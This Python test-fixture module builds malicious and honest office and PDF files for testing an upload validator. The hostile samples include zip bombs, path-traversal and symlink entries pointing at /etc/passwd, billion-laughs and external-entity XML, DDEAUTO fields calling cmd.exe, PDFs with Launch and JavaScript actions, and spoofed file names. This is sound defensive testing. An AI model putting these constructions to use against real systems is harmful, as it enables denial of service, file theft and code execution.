"""Files made to do harm, and honest ones, built when they are needed: none is kept in the repository."""

import hashlib
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx
import openpyxl

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"


@dataclass(frozen=True)
class Sample:
    """One file; ``wanted``: the key of its sentence in ``texts.UPLOAD``, or "" when it must be taken."""

    what: str
    name: str
    wanted: str
    make: Callable[[], bytes]


def types(main: str = WORD_TYPE) -> bytes:
    return (
        f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'.encode()
    )


def package(parts: dict[str, bytes] | None = None, *, main: str = WORD_TYPE, head: bytes | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types(main) if head is None else head)
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word(body: str = "<w:p/>", **parts: bytes) -> bytes:
    document = f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode()
    return package({"word/document.xml": document, **{k.replace("__", "/"): v for k, v in parts.items()}})


def relations(kind: str, target: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="{REL}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


def real_word() -> bytes:
    document, buffer = docx.Document(), io.BytesIO()
    document.add_heading("BÁO CÁO", 1)
    document.add_paragraph("Đã tổ chức 02 hội nghị; xem https://hungyen.gov.vn. DDE là viết tắt.")
    document.add_table(2, 3)
    document.save(buffer)
    return buffer.getvalue()


def real_sheet() -> bytes:
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    assert book.active is not None
    book.active.append(["Chỉ tiêu", "=SUM(A1:A2)", 3])
    book.save(buffer)
    return buffer.getvalue()


def with_link() -> bytes:
    """An honest document whose text links to a page."""
    rels = relations("hyperlink", "https://hungyen.gov.vn")
    return word(**{"word___rels__document.xml.rels": rels})


def bomb(entries: int, size: int) -> bytes:
    return package({f"word/{n}.xml": b"<a>" + b"\0" * size for n in range(entries)})


def overlapping() -> bytes:
    """Two names for the same bytes: the central directory lists one entry many times (Fifield 2019)."""
    whole = package({"word/document.xml": b"<a>" + hashlib.shake_256(b"x").digest(5000)})
    end = whole.rindex(b"PK\x05\x06")
    size, offset = struct.unpack("<II", whole[end + 12 : end + 20])
    directory = whole[offset : offset + size]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"word/document.xml", f"word/{n:08d}.xml".encode()) for n in range(400))
    tail = struct.pack("<HHII", 402, 402, size + len(more), offset)
    return whole[:offset] + directory + more + b"PK\x05\x06\0\0\0\0" + tail + b"\0\0"


def lying_size() -> bytes:
    """An entry that says it is small."""
    whole = bytearray(package({"word/document.xml": b"<a>" + b"\0" * (20 << 20)}))
    at = whole.rindex(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(whole)


def encrypted_entry() -> bytes:
    whole = bytearray(word())
    at = whole.rindex(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)


def twice() -> bytes:
    """Readers disagree about which of two entries of one name counts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for content in (types(), types(SHEET_TYPE)):
            archive.writestr("[Content_Types].xml", content)
    return buffer.getvalue()


def linked() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", types())
        entry = zipfile.ZipInfo("word/document.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def laughs() -> bytes:
    lines = ['<!DOCTYPE l [<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return ('<?xml version="1.0"?>' + "".join(lines) + "]><l>&a11;</l>").encode()


def external_entity(encoding: str = "utf-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    )
    return text.encode(encoding)


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def pdf_hidden(body: bytes, padding: int = 0) -> bytes:
    """The same within a compressed object stream."""
    packed = zlib.compress(b"2 0 << " + body + b" >>" + b" " * padding)
    head = b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return b"%PDF-1.7\n" + head + packed + b"\nendstream\nendobj\n%%EOF\n"


def signed_pdf() -> bytes:
    """As a signing program leaves it: a signature field with its byte range."""
    return pdf(b"/AcroForm << /Fields [ 5 0 R ] /SigFlags 3 >>") + (
        b"5 0 obj\n<< /FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 100 200 300] /Contents <00> >> >>\nendobj\n%%EOF\n"
    )


SAMPLES = [
    Sample("a Word document", "báo cáo.docx", "", real_word),
    Sample("a sheet with a formula", "số liệu.xlsx", "", real_sheet),
    Sample("a document with a link", "bc.docx", "", with_link),
    Sample("a PDF", "bc.pdf", "", lambda: PDF),
    Sample("a signed PDF", "bc-signed.pdf", "", signed_pdf),
    Sample("a PDF that opens at a page", "bc.pdf", "", lambda: pdf(b"/OpenAction [ 2 0 R /Fit ]")),
    Sample("a PDF with compressed objects", "bc.pdf", "", lambda: pdf_hidden(b"/Type /Page")),
    Sample("a PDF that speaks of scripts", "bc.pdf", "", lambda: PDF + b"(javascript and launch)"),
    Sample("a name of 255 bytes", "đ" * 120 + ".pdf", "", lambda: PDF),
    Sample("a name of a device", "CON.pdf", "", lambda: PDF),
    Sample("a bomb of one entry", "bc.docx", "unsafe", lambda: bomb(1, 40 << 20)),
    Sample("a bomb of many entries", "bc.docx", "unsafe", lambda: bomb(30, 4 << 20)),
    Sample("too many entries", "bc.docx", "unsafe", lambda: bomb(2_100, 1)),
    Sample("overlapping entries", "bc.docx", "unsafe", overlapping),
    Sample("an entry that lies about its size", "bc.docx", "magic", lying_size),
    Sample("a nested archive", "bc.docx", "unsafe", lambda: package({"word/a.zip": package()})),
    Sample("a nested program", "bc.docx", "unsafe", lambda: package({"word/media/a.exe": b"MZ"})),
    Sample("a nested script", "bc.docx", "unsafe", lambda: package({"word/a.vbs": b"x"})),
    Sample("a name given twice", "bc.docx", "unsafe", twice),
    Sample("an encrypted entry", "bc.docx", "unsafe", encrypted_entry),
    Sample("a symbolic link", "bc.docx", "unsafe", linked),
    Sample("a path that climbs", "bc.docx", "unsafe", lambda: package({"../../etc/x": b"x"})),
    Sample("a path that climbs by backslashes", "bc.docx", "unsafe", lambda: package({"..\\..\\x": b"x"})),
    Sample("an absolute path", "bc.docx", "unsafe", lambda: package({"/etc/passwd": b"x"})),
    Sample("a drive", "bc.docx", "unsafe", lambda: package({"C:/x": b"x"})),
    Sample("macros under an honest name", "bc.docx", "macro", lambda: package({"word/vbaProject.bin": b"x"})),
    Sample("macros of a sheet", "bc.xlsx", "macro", lambda: package({"xl/vbaProject.bin": b"x"}, main=SHEET_TYPE)),
    Sample("the content type of macros", "bc.docx", "macro", lambda: package(head=types(WORD_TYPE.replace("main", "macroEnabled.main")))),
    Sample("a macro document", "bc.docm", "macro", word),
    Sample("a macro sheet", "bc.xlsm", "macro", word),
    Sample("a template from elsewhere", "bc.docx", "embedded", lambda: word(**{"word___rels__settings.xml.rels": relations("attachedTemplate", "http://x.example/a.dotm")})),
    Sample("an object loaded from elsewhere", "bc.docx", "embedded", lambda: word(**{"word___rels__document.xml.rels": relations("oleObject", "http://x.example/a")})),
    Sample("a frame from elsewhere", "bc.docx", "embedded", lambda: word(**{"word___rels__webSettings.xml.rels": relations("frame", "http://x.example/a")})),
    Sample("an OLE object", "bc.docx", "embedded", lambda: word(**{"word__embeddings__oleObject1.bin": b"\xd0\xcf"})),
    Sample("an ActiveX control", "bc.docx", "embedded", lambda: word(**{"word__activeX__activeX1.xml": b"<a/>"})),
    Sample("a ribbon of its own", "bc.docx", "embedded", lambda: package({"customUI/customUI.xml": b"<a/>"})),
    Sample("DDE in a field", "bc.docx", "embedded", lambda: word('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>')),
    Sample("DDE cut in runs", "bc.docx", "embedded", lambda: word("<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd</w:instrText>")),
    Sample("DDE in an attribute", "bc.docx", "embedded", lambda: word('<w:fldSimple w:instr="DDE cmd x"/>')),
    Sample("DDE of a sheet", "bc.xlsx", "embedded", lambda: package({"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}, main=SHEET_TYPE)),
    Sample("entities in the types", "bc.docx", "unsafe", lambda: package(head=b'<!DOCTYPE a [<!ENTITY x "y">]>' + types())),
    Sample("a billion laughs", "bc.docx", "unsafe", lambda: package({"word/document.xml": laughs()})),
    Sample("a billion laughs in a sheet", "bc.xlsx", "unsafe", lambda: package({"xl/workbook.xml": laughs()}, main=SHEET_TYPE)),
    Sample("an external entity", "bc.docx", "unsafe", lambda: package({"docProps/core.xml": external_entity()})),
    Sample("an external entity in UTF-16", "bc.docx", "unsafe", lambda: package({"word/document.xml": external_entity("utf-16")})),
    Sample("entities in relations", "bc.docx", "unsafe", lambda: package({"_rels/.rels": external_entity()})),
    Sample("entities behind a long comment", "bc.docx", "unsafe", lambda: package({"word/document.xml": b"<!--" + b"x" * 70_000 + b"-->" + external_entity()})),
    Sample("a sheet called a document", "bc.docx", "magic", lambda: package(main=SHEET_TYPE)),
    Sample("a package without types", "bc.docx", "magic", lambda: package(head=b"<Types/>")),
    Sample("an old document", "bc.docx", "magic", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    Sample("half a package", "bc.docx", "magic", lambda: word()[:200]),
    Sample("nothing", "bc.docx", "empty", lambda: b""),
    Sample("a program called PDF", "bc.pdf", "magic", lambda: b"MZ\x90\0" + b"\0" * 99),
    Sample("a page called PDF", "bc.pdf", "magic", lambda: b"<html><script>alert(1)</script>"),
    Sample("a PDF behind junk", "bc.pdf", "magic", lambda: b"GIF89a" + PDF),
    Sample("a PDF with a script", "bc.pdf", "runs", lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    Sample("a PDF with a script under its short name", "bc.pdf", "runs", lambda: pdf(b"/AA << /O << /JS 3 0 R >> >>")),
    Sample("a PDF whose names are escaped", "bc.pdf", "runs", lambda: pdf(b"/OpenAction << /S /J#61vaScr#69pt >>")),
    Sample("a PDF with a hidden script", "bc.pdf", "runs", lambda: pdf_hidden(b"/S /JavaScript")),
    Sample("a PDF with a hidden escaped script", "bc.pdf", "runs", lambda: pdf_hidden(b"/S /#4a#53")),
    Sample("a PDF that starts a program", "bc.pdf", "runs", lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    Sample("a PDF that starts a program late", "bc.pdf", "runs", lambda: PDF + b" " * (3 << 20) + b"<< /S /Launch >>"),
    Sample("a name across two pieces", "bc.pdf", "runs", lambda: b"%PDF-1.7" + b" " * ((1 << 20) - 12) + b"/JavaScript "),
    Sample("a PDF with a file inside", "bc.pdf", "runs", lambda: pdf(b"/Names << /EmbeddedFiles 4 0 R >>")),
    Sample("a PDF with a film", "bc.pdf", "runs", lambda: pdf(b"/Annots [ << /Subtype /RichMedia >> ]")),
    Sample("a PDF with an XFA form", "bc.pdf", "runs", lambda: pdf(b"/AcroForm << /XFA 4 0 R >>")),
    Sample("a PDF that sends a form", "bc.pdf", "runs", lambda: pdf(b"/A << /S /SubmitForm /F (http://x.example) >>")),
    Sample("a locked PDF", "bc.pdf", "locked", lambda: PDF + b"trailer << /Encrypt 9 0 R >>"),
    Sample("a PDF that is an archive", "bc.pdf", "unsafe", lambda: PDF + word()),
    Sample("a PDF bomb", "bc.pdf", "unsafe", lambda: pdf_hidden(b"/Type /Page", 80 << 20)),
    Sample("a script", "bc.js", "kind", lambda: b"alert(1)"),
    Sample("a page", "bc.html", "kind", lambda: b"<html>"),
    Sample("a drawing that runs", "bc.svg", "kind", lambda: b"<svg onload='alert(1)'/>"),
    Sample("two suffixes", "bc.pdf.exe", "kind", lambda: PDF),
    Sample("a suffix turned round", "bc\u202efdp.exe", "kind", lambda: PDF),
    Sample("no suffix", "bc", "kind", lambda: PDF),
]  # fmt: skip
